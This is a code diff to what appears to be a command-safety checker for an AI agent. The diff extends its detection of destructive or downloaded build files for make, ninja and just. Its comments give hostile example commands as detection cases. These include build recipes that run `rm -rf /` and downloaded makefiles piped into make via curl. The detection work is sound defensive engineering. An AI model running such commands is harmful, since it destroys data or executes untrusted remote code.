@@ -19,7 +19,7 @@ from aintern_ls.safety.registry import (
     run_config_command,
     skip_options,
 )
-from aintern_ls.safety.words import Word, names
+from aintern_ls.safety.words import ORIGIN_NETWORK, Word, names
 
 # --- package managers, builds, tests ----------------------------------------------------
 
@@ -905,14 +905,14 @@ def _makefile_on_stdin(cmd: Cmd) -> bool:
     args = cmd.args
     for k, w in enumerate(args):
         t = w.text
-        if t in ("-f", "--file", "--makefile"):
+        if t in ("-f", "--file", "--makefile", "--justfile"):
             if k + 1 < len(args) and args[k + 1].text in _STDIN_FILES:
                 return True
             # (`make -f - <<EOF`: the grammar hangs the lone `-` on the heredoc)
             if k + 1 == len(args) and cmd.scope.source[w.end : w.end + 4].split()[:1] == ["-"]:
                 return True
         elif (
-            t.startswith(("--file=", "--makefile=", "-f"))
+            t.startswith(("--file=", "--makefile=", "--justfile=", "-f"))
             and (t.split("=", 1)[-1] if "=" in t else t[2:]) in _STDIN_FILES
         ):
             return True
@@ -922,9 +922,11 @@ def _makefile_on_stdin(cmd: Cmd) -> bool:
 def _make_recipes(text: str) -> str:
     """The recipe lines of Makefile text (tab-indented or after `target: ;`), as shell."""
     lines: list[str] = []
+    # (no tab-indented line: a `.RECIPEPREFIX` or a BSD make; indented lines are recipes)
+    lead = ("\t",) if "\n\t" in "\n" + text else ("\t", " ")
     for line in text.splitlines():
-        if line.startswith("\t"):
-            lines.append(line.lstrip("\t").lstrip("@-+"))
+        if line.startswith(lead):
+            lines.append(line.lstrip("\t ").lstrip("@-+"))
         else:
             m = re.match(r"\A[^:=#\t]+::?[^;=]*;(.*)\Z", line)
             if m:
@@ -1163,7 +1165,8 @@ def _cmake(cmd: Cmd) -> bool:
 @handles(
     *names(
         """
-    make gmake just task ninja cmake bazel meson scons rake invoke nox tox pre-commit
+    make gmake bmake pmake bsdmake just task ninja cmake bazel meson scons rake invoke nox tox
+    pre-commit
     """
     )
 )
@@ -1184,10 +1187,19 @@ def _build_tool(cmd: Cmd) -> None:
     ops = [w for w in ops if "=" not in w.text]
     target = ops[0].text if ops else "the default target"
     cmd.add(M, "build", f"{cmd.name} runs build recipe {target}")
-    makefile = cmd.option_value("-f", "--file", "--makefile") or _attached_makefile(cmd)
+    makefile = cmd.option_value("-f", "--file", "--makefile", "--justfile") or _attached_makefile(
+        cmd
+    )
     written = cmd.scope.written.get(
         makefile.text.rsplit("/", 1)[-1] if makefile is not None else "Makefile"
     ) or (cmd.scope.written.get("makefile") if makefile is None else None)
+    if makefile is not None and makefile.dynamic:
+        # `make -f <(printf 'all:\n\trm -rf /')`, `ninja -f <(curl …)`: the build file is a
+        # process substitution's output (n13u)
+        if makefile.origin == ORIGIN_NETWORK:
+            cmd.add(C, "pipe-to-shell", f"{cmd.name} runs the recipes of a downloaded file")
+        elif makefile.origin in ("static", "decoded"):
+            written = (makefile.text, -1)
     if cmd.stdin.kind == "network" and _makefile_on_stdin(cmd):
         # `curl -s https://x/mk | make -f -`: a downloaded makefile's recipes run (b12)
         cmd.add(C, "pipe-to-shell", f"{cmd.name} runs the recipes of a downloaded makefile")
@@ -1195,12 +1207,37 @@ def _build_tool(cmd: Cmd) -> None:
         # `make -f /dev/stdin <<< $'all:\n\trm -rf /'`, `make -f - <<EOF`: the makefile is
         # the text on stdin
         written = (cmd.stdin.text, -1)
-    if cmd.name in ("make", "gmake") and written is not None:
+    if cmd.name in _MAKES and written is not None:
         # Recipe lines (tab-indented or after `target: ;`, `@`/`-` prefixes dropped) are
         # shell commands.
         recipe = _make_recipes(written[0])
         if recipe.strip():
             _judge_written(cmd, recipe, "the Makefile written above")
+    elif cmd.name in ("ninja", "just") and written is not None and makefile is not None:
+        # a build file read from stdin or a process substitution (n13u): ninja's
+        # `command = …` lines, just's indented recipe lines
+        recipe = _ninja_commands(written[0]) if cmd.name == "ninja" else _just_recipes(written[0])
+        if recipe.strip():
+            _judge_written(cmd, recipe, f"the {cmd.name} file given")
+
+
+_MAKES = frozenset(names("make gmake bmake pmake bsdmake"))
+
+
+def _ninja_commands(text: str) -> str:
+    """The `command = …` lines of a ninja build file, as shell."""
+    return "\n".join(
+        m.group(1) for m in re.finditer(r"(?m)^[ \t]+command[ \t]*=[ \t]*(.+)$", text)
+    )
+
+
+def _just_recipes(text: str) -> str:
+    """The indented recipe lines of a justfile, as shell (`@`/`-` prefixes dropped)."""
+    return "\n".join(
+        line.strip().lstrip("@-")
+        for line in text.splitlines()
+        if line[:1] in (" ", "\t") and line.strip() and not line.strip().startswith("#")
+    )
 
 
 def _attached_makefile(cmd: Cmd) -> Word | None:
